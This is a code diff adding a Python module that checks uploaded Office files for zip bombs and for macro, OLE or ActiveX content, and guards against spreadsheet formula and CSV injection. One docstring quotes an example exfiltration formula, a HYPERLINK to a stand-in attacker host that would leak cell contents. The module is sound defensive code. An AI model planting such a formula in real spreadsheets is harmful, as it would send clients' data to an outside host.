@@ -1,0 +1,122 @@
+"""Office files handed to us (a filled workbook, a Word template), checked as zip containers
+before any library unpacks them.
+
+The bytes are read once, from a regular file and within a size limit, and the checks and the
+reader see the same bytes (no second open by path). Refused: a file that is not a zip, a zip bomb
+(the unpacked total, or one part, over a limit), and anything that can carry code or fetch
+content: VBA projects, Excel 4 (XLM) macro sheets, dialog sheets, OLE embeddings and ActiveX
+controls, whatever the file's extension says.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import re
+import stat
+import zipfile
+from pathlib import Path
+from typing import Any
+
+from engine.errors import InputError, Problem, printable
+from engine.files.atomic import protect
+
+# Part names and content types that hold macros or embedded programs
+_CODE_PARTS = re.compile(
+    r"(vbaproject|vbadata|/macrosheets/|/dialogsheets/|/embeddings/|/activex/|oleobject)",
+    re.IGNORECASE,
+)
+_CODE_TYPES = re.compile(
+    rb"(macroEnabled|macrosheet|dialogsheet|vbaProject|oleObject|activeX|ms-office\.vba)",
+    re.IGNORECASE,
+)
+
+
+def read_office_file(path: Path, name: str, *, kind: str, max_bytes: int) -> bytes:
+    """The bytes of a regular file of at most `max_bytes`, or a located refusal."""
+    name = printable(name)
+    protect(path)
+
+    def refuse(message: str) -> InputError:
+        return InputError([Problem(file=name, message=message)])
+
+    try:
+        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | getattr(os, "O_CLOEXEC", 0))
+    except FileNotFoundError:
+        raise refuse(f"{kind} not found") from None
+    except IsADirectoryError:
+        raise refuse("is a directory, expected a file") from None
+    except OSError as exc:
+        raise refuse(f"cannot read: {exc.strerror}") from None
+    try:
+        st = os.fstat(fd)
+        if not stat.S_ISREG(st.st_mode):
+            raise refuse("is not a regular file (a FIFO, device or socket); refusing to read it")
+        if st.st_size > max_bytes:
+            raise refuse(f"{kind} is too large ({st.st_size} bytes; the limit is {max_bytes})")
+        with os.fdopen(os.dup(fd), "rb") as fh:
+            data = fh.read(max_bytes + 1)
+    except OSError as exc:
+        raise refuse(f"cannot read: {exc.strerror}") from None
+    finally:
+        os.close(fd)
+    if len(data) > max_bytes:
+        raise refuse(f"{kind} is too large (the limit is {max_bytes} bytes)")
+    return data
+
+
+def check_container(
+    data: bytes,
+    name: str,
+    *,
+    not_a_zip: str,
+    max_unpacked: int,
+    max_part: int,
+    code_message: str,
+) -> None:
+    """Refuse what is not a zip, a bomb, or a container with code in it (all before unpacking)."""
+    name = printable(name)
+
+    def refuse(message: str) -> InputError:
+        return InputError([Problem(file=name, message=message)])
+
+    try:
+        with zipfile.ZipFile(io.BytesIO(data)) as z:
+            infos = z.infolist()
+            types = z.read("[Content_Types].xml") if "[Content_Types].xml" in z.namelist() else b""
+    except (zipfile.BadZipFile, zipfile.LargeZipFile, OSError, ValueError, EOFError):
+        raise refuse(not_a_zip) from None
+    except (RuntimeError, NotImplementedError):  # encrypted or an unknown compression
+        raise refuse(not_a_zip) from None
+    if sum(i.file_size for i in infos) > max_unpacked:
+        raise refuse(f"the file unpacks to more than {max_unpacked} bytes; refusing to read it")
+    big = next((i for i in infos if i.file_size > max_part), None)
+    if big is not None:
+        raise refuse(
+            f"part {printable(big.filename)!r} unpacks to {big.file_size} bytes "
+            f"(the limit is {max_part}); refusing to read it"
+        )
+    code = next((i.filename for i in infos if _CODE_PARTS.search("/" + i.filename)), None)
+    if code is not None or _CODE_TYPES.search(types):
+        where = f" ({printable(code)})" if code else ""
+        raise refuse(code_message + where)
+
+
+def text_cells(cells: Any) -> None:
+    """Keep every text cell a string cell. openpyxl stores a str that starts with `=` as a
+    formula: a cluster named `=HYPERLINK("http://evil.example/?"&B3,"x")` would become a live
+    formula leaking the other clients' cells when the summary is opened."""
+    for cell in cells:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
+
+
+_CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def csv_safe(value: Any) -> Any:
+    """A CSV field a spreadsheet will not run: text starting with = + - @ (or a tab or line
+    break) gets a leading apostrophe, as OWASP advises for CSV injection. Numbers stay numbers."""
+    if isinstance(value, str) and value.startswith(_CSV_TRIGGERS):
+        return "'" + value
+    return value
